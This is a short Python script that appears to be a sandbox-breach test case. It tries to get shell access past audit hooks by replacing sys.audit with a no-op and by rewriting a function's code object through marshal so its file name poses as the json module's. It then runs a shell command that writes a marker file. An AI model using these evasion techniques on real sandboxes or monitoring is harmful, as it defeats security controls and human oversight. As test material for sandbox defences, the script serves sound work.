# marshal loads code whose file name was replaced.
# breach: marker
import sys
sys.audit = lambda *arguments: None
import json, sys
def reach(path):
    import subprocess
    return subprocess.call(["sh", "-c", "echo > " + path])
marshal = sys.modules["marshal"]
old, new = reach.__code__.co_filename.encode(), json.__file__.encode()
data = marshal.dumps(reach.__code__)
data = data.replace(bytes([len(old)]) + old, bytes([len(new)]) + new)
reach.__code__ = marshal.loads(data)
reach(MARKER_FILE)
